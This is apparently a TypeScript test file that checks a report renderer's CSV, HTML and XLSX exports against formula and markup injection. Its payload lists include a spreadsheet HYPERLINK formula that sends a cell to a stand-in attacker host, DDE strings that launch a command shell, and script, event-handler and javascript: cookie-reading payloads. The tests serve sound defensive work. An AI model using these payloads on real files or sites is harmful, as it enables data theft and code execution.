import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { renderReportCsv } from '../../../core/report-render/csv.js';
import { renderReportHtml } from '../../../core/report-render/html.js';
import type { ReportRenderInput } from '../../../core/report-render/types.js';
import { renderReportXlsx } from '../../../core/report-render/xlsx.js';
import { renderInput } from '../report-render/park-report-fixture.js';

/**
 * Report-side injection through every field an upload controls: enterprise names, soft-warning
 * messages, 情况说明 notes and the upload keys a revision names as its causes.
 *
 * Already covered in tests/unit/report-render (not repeated here): neutralizeCell for each
 * trigger character (csv.test.ts), =HYPERLINK/@SUM/-1+2 names in the missing and warning
 * sections (csv.test.ts), <script> and <img onerror> in names, messages and notes
 * (html.test.ts), and a =HYPERLINK name stored as a string cell (xlsx.test.ts). What is added:
 * tab/CR/DDE payloads end to end, the notes and the revision causes, attribute breakouts and
 * javascript: URLs, and a sweep of every cell of every sheet of the workbook.
 */

const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-1+2',
  '\t=1+1',
  '\r=1+1',
] as const;

const MARKUP_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  'javascript:alert(document.cookie)',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
] as const;

/** A report input carrying `payload` in every upload-controlled text field. */
function hostileInput(payload: string): ReportRenderInput {
  return renderInput({
    missing: [{ uscc: '91350100M000100Y43', name: payload }],
    openWarnings: [
      {
        uscc: '91431123MA4L5678Y1',
        name: payload,
        period: '2017-11',
        rule: 'yoy_over_50',
        message: payload,
        note: payload,
      },
    ],
    revision: {
      number: 2,
      publishedAt: '2017-12-06T01:30:00Z',
      changes: [],
      causes: [`uploads/shuangpai/91431123MA4L5678Y1/${payload}.csv`, payload],
    },
    earlierRevisions: [{ number: 1, publishedAt: '2017-12-05T01:30:00Z', changes: [], causes: [] }],
  });
}

function csvCells(input: ReportRenderInput): string[] {
  const text = new TextDecoder('utf-8').decode(renderReportCsv(input)).replace(/^\uFEFF/, '');
  const parsed = Papa.parse<string[]>(text, { newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

async function workbookOf(input: ReportRenderInput): Promise<ExcelJS.Workbook> {
  const bytes = await renderReportXlsx(input);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(
    bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer,
  );
  return workbook;
}

/** The element names of a page in document order: markup the payload added would show here. */
function tagNames(html: string): string[] {
  return [...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((match) => match[1] ?? '');
}

describe('CSV report: formula injection through every upload-controlled field', () => {
  it.each(FORMULA_PAYLOADS)('neutralizes %j wherever it appears', (payload) => {
    // Act
    const cells = csvCells(hostileInput(payload));

    // Assess: name ×2, message, note and the bare cause: 5 cells, each neutralized.
    expect(cells.filter((cell) => cell === `'${payload}`)).toHaveLength(5);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(cells).toContain(`uploads/shuangpai/91431123MA4L5678Y1/${payload}.csv`);
  });
});

describe('HTML report: markup through every upload-controlled field', () => {
  it.each(MARKUP_PAYLOADS)('escapes %j: no element, attribute or URL comes from it', (payload) => {
    // Act
    const html = renderReportHtml(hostileInput(payload));

    // Assess: the same tags as a report of harmless names, none with a handler or a URL.
    expect(html).not.toMatch(/<script/i);
    expect(tagNames(html)).toEqual(tagNames(renderReportHtml(hostileInput('某某有限公司'))));
    const tags = html.match(/<[^>]*>/g) ?? [];
    expect(tags.filter((tag) => /\son[a-z]+\s*=/i.test(tag))).toEqual([]);
    expect(tags.filter((tag) => /javascript:/i.test(tag))).toEqual([]);
  });

  it('keeps the payload readable as text', () => {
    // Act
    const html = renderReportHtml(hostileInput('"><img src=x onerror=alert(1)>'));

    // Assess
    expect(html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
  });
});

describe('XLSX report: nothing an upload writes becomes a formula', () => {
  it.each(FORMULA_PAYLOADS)('stores %j as a string in every sheet', async (payload) => {
    // Act
    const workbook = await workbookOf(hostileInput(payload));

    // Assess
    const cells: ExcelJS.Cell[] = [];
    for (const ws of workbook.worksheets) ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    // XML text reads a lone CR back as LF; the cell is the same string otherwise.
    const stored = payload.replaceAll('\r', '\n');
    const carrying = cells.filter((cell) => cell.value === stored);
    expect(carrying.length).toBeGreaterThanOrEqual(5);
    for (const cell of carrying) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
});
